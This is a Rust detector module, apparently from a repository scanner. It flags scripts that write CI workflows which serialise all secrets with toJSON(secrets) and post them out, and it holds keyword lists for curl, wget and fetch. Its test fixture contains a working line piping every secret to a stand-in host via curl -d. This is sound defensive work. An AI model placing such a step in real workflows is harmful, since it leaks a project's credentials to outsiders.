//! Workflows of a repository's that hand all of its secrets to an address: as files, and as texts that scripts write.

use crate::bundle::{Bundle, File};
use crate::finding::{Finding, Findings};
use crate::layout::is_script;
use crate::rules::shell as rules;
use crate::text::Source;

/// 512 KiB of a script.
const BYTES: u64 = 512 << 10;

/// 2 KiB around the secrets: a job is shorter.
const AROUND: usize = 2 << 10;

/// Endings of scripts' names, beside those of JavaScript's.
const SCRIPTS: &[&str] =
    &["", "sh", "bash", "zsh", "fish", "py", "rb", "pl", "php", "lua", "ps1", "psm1", "bat", "cmd"];

/// Where a workflow takes all secrets at once, if it sends a file or a text anywhere.
pub(crate) fn pours(text: &str) -> Option<(usize, usize)> {
    let lower = text.to_ascii_lowercase();
    let start = lower.find("tojson(secrets")?;
    let has = |words: &[&str]| words.iter().any(|word| lower.contains(word));
    let sends = has(&["curl ", "wget "]) && has(&["--data", " -d ", " -f ", " -t ", "--upload", "--post", "--form"]);
    (sends || has(&["requests.post", "invoke-webrequest", "fetch("])).then_some((start, start.saturating_add(14)))
}

/// Judges the workflows that scripts have in them.
pub(crate) fn inspect(bundle: &Bundle, findings: &mut Findings) {
    let is_read = |file: &&File| {
        let end = file.extension();
        file.size <= BYTES
            && (SCRIPTS.contains(&end.as_str()) || is_script(&end))
            && !file.path.contains("node_modules/")
    };
    for file in bundle.files().iter().filter(is_read) {
        let Ok(bytes) = bundle.read(file, BYTES) else { continue };
        let text = crate::text::read(&bytes);
        let Some((start, end)) = written(&text) else { continue };
        let place = Source::new(&file.path, &text).place(start, end);
        let message = "a workflow in it has every secret of the repository, and sends to an address";
        findings.push(Finding::new(&rules::EXFIL, place, message).evidence(text.get(start..end).unwrap_or_default()));
    }
}

/// Where a script has a workflow in it that pours out secrets: with the job around it, since who looks for such workflows names
/// their words as well.
fn written(text: &str) -> Option<(usize, usize)> {
    let marks = ["toJSON(secrets", "tojson(secrets", "toJson(secrets"];
    let at = marks.iter().find_map(|mark| text.find(mark))?;
    let from = text.floor_char_boundary(at.saturating_sub(AROUND));
    let to = text.floor_char_boundary(at.saturating_add(AROUND));
    let around = text.get(from..to)?;
    let has = |words: &[&str]| words.iter().any(|word| around.contains(word));
    let is_job = around.contains("run:") && has(&["runs-on", "env:", "- name:", "uses:"]) && around.contains("${{");
    let (start, end) = pours(around).filter(|_| is_job && around.contains("://"))?;
    Some((from.saturating_add(start), from.saturating_add(end)))
}

#[cfg(test)]
mod tests {
    use crate::finding::Severity;
    use crate::fixture::{report, worst};

    fn of(path: &str, text: &str) -> Option<Severity> {
        worst(&report(&[(path, text)])).map(|(severity, _)| severity)
    }

    const JOB: &str = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: echo \"$ALL\" | curl -d @- https://x.invalid/a\n";

    #[test]
    fn a_script_that_writes_a_workflow_which_pours_out_secrets_is_a_danger() {
        let shell = format!("#!/bin/sh\ncat > .github/workflows/a.yml <<'E'\n{JOB}E\n");
        assert_eq!(of("scripts/a.sh", &shell), Some(Severity::Danger));
        let python = format!("import pathlib\npathlib.Path('.github/workflows/a.yml').write_text('''{JOB}''')\n");
        assert_eq!(of("scripts/a.py", &python), Some(Severity::Danger));
        let step = JOB.split_once("    steps:\n").map_or("", |(_, step)| step);
        assert_eq!(of("scripts/a.py", &format!("STEP = '''{step}'''\n")), Some(Severity::Danger));
    }

    #[test]
    fn who_looks_for_such_workflows_and_who_uses_one_secret_is_none() {
        let looks = "import re, sys\nfor path in sys.argv[1:]:\n    text = open(path).read()\n    if 'toJSON(secrets)' in text and re.search(r'curl .*(-d |--data)', text):\n        print(path, 'hands all secrets to a step, see https://example.com/rules')\n";
        assert!(of("scripts/a.py", looks).is_none_or(|found| found < Severity::Danger));
        let one = format!("cat > a.yml <<'E'\n{}E\n", JOB.replace("toJSON(secrets)", "secrets.TOKEN"));
        assert!(of("scripts/a.sh", &one).is_none_or(|found| found < Severity::Danger));
    }
}
